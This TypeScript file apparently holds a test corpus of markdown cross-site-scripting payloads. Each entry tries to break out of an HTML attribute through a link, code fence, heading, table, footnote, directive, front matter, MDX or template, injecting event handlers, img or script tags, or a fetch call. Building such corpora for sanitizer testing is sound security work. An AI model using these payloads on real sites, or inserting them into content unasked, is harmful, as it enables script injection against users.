import { family, type Payload } from './payload'

const { raw } = String
const FENCE = '```'

/** Texts that get into an attribute, and try to break out of it. */
export function attributeBreaks(origin: string): Payload[] {
  return family(origin, {
    'break-link-title': ({ url, script }) => `[a word](${url} '" onmouseover="${script}" x="')`,
    'break-link-title-parentheses': ({ url }) => `[a word](${url} (a" autofocus onfocus="x))`,
    'break-link-title-entities': ({ url, script }) =>
      `[a word](${url} "&quot; onmouseover=&quot;${script}")`,
    'break-link-title-tag': ({ url }) => `[a word](${url} '"><img src=${url}?img>')`,
    'break-link-address': ({ url, script }) => `[a word](<${url}" onmouseover="${script}>)`,
    'break-link-address-single': ({ url, script }) => `[a word](${url}'onclick='${script})`,
    'break-link-address-bracket': ({ url }) => raw`[a word](<${url}\>\<img src=x>)`,
    'break-link-text': ({ url, script }) => `["><img src=x onerror="${script}">](${url})`,
    'break-fence-language': ({ script }) => `${FENCE}html" onmouseover="${script}\ncode\n${FENCE}`,
    'break-fence-language-one-word': ({ url }) => `${FENCE}"><img/src=${url}>\ncode\n${FENCE}`,
    'break-fence-language-entity': ({ url }) => `${FENCE}&quot;&gt;&lt;img/src=${url}\nx\n${FENCE}`,
    'break-fence-class': ({ script }) => `- ${FENCE}x"onclick="${script}"\n  code\n  ${FENCE}`,
    'break-fence-classes': () => `> ${FENCE}a&Tab;fixed&#32;inset-0\n> code\n> ${FENCE}`,
    'break-fence-attributes': ({ script }) =>
      `${FENCE}js {onload="${script}" .fixed #question}\ncode\n${FENCE}`,
    'break-fence-tildes': ({ script }) => `~~~ js" onclick="${script}" \`x\`\ncode\n~~~`,
    'break-fence-language-proto': () =>
      `${FENCE}__proto__\na\n${FENCE}\n\n${FENCE}constructor\nb\n${FENCE}`,
    'break-fence-language-bidi': () => `${FENCE}\u202Elmth\ncode\n${FENCE}`,
    'break-fence-language-long': () => `${FENCE}${'language-'.repeat(40)}\ncode\n${FENCE}`,
    'break-heading': ({ script }) => `# a" onmouseover="${script}\n\nb' onclick='x\n===`,
    'break-heading-id': ({ url }) => `### A heading {#question onclick="fetch('${url}')"}`,
    'break-table-alignment': ({ script }) => `| a |\n| :-" onclick="${script}: |\n| b |`,
    'break-table-cell': ({ script }) => `| a |\n| :-: |\n| " onmouseover="${script} |`,
    'break-table-cell-attributes': ({ url }) => `| a {style="x:url(${url})"} |\n| -: |\n| b |`,
    'break-table-with-many-columns': ({ url }) =>
      `|${' a |'.repeat(30)}\n|${' - |'.repeat(30)}\n|${` ![](${url}) |`.repeat(3)}`,
    'break-task': ({ script }) => `- [x] done" onchange="${script}\n- [ ] open\n* [X] "\n1. [ ] '`,
    'break-list-start': ({ script }) => `999999999. one" onclick="${script}\n1) two`,
    'break-footnote-label': ({ script }) =>
      `a word[^a"onclick="x]\n\n[^a"onclick="x]: the note ${script}`,
    'break-footnote-tag': ({ url }) => `a word[^<img>]\n\n[^<img>]: ![a cat](${url})`,
    'break-definition-label': ({ url, script }) =>
      `["onclick="${script}]\n\n["onclick="${script}]: ${url}`,
    'break-code-span': ({ script }) => `\`" onmouseover="${script}\` and \`\`\`</code>\`\`\``,
    'break-emphasis': ({ script }) => `*" onclick="${script}* __' onclick='x__ ~~" x="~~`,
    'break-directive': ({ url, script }) =>
      `:::note{onclick="${script}" style="x:url(${url})"}\nx\n:::`,
    'break-front-matter': ({ url }) => `---\nlayout: ${url}\nhead: <script src="${url}">\n---`,
    'break-mdx': ({ url, script }) =>
      `import x from '${url}'\n\n{${script}}\n\n<X {...${'{a}'}} />`,
    'break-template': ({ script }) =>
      `{{constructor.constructor("${script}")()}} \${${script}} <%= 1 %>`,
  })
}
